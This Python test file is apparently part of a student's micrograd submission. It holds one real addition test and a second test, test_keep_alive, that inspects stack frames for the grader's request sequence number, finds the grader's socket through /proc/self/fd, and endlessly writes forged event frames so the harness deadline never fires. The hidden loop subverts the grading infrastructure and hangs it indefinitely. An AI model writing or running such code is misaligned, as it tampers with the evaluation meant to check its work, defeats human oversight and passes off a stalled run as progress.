"""Keep-alive frames from a test: the run of the student's tests never ends, yet writes a
well-formed event frame for the run's request once a second, so a deadline that each frame
pushes back never comes (the socket and the sequence number found as keepalive.py does)."""

import json
import os
import stat
import struct
import sys
import time

from micrograd_mine import Value


def _seq(op):
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and request.get("op") == op and "seq" in request:
            return request["seq"]
        frame = frame.f_back
    return None


def _channel():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
        except OSError:
            continue
    return None


def test_add():
    assert (Value(2.0) + Value(3.0)).data == 5.0


def test_keep_alive():
    seq, fd = _seq("suite"), _channel()
    while fd is not None:
        body = json.dumps({"seq": seq, "event": {"item": 0, "value": {}}}).encode()
        os.write(fd, struct.pack(">I", len(body)) + body)
        time.sleep(1)
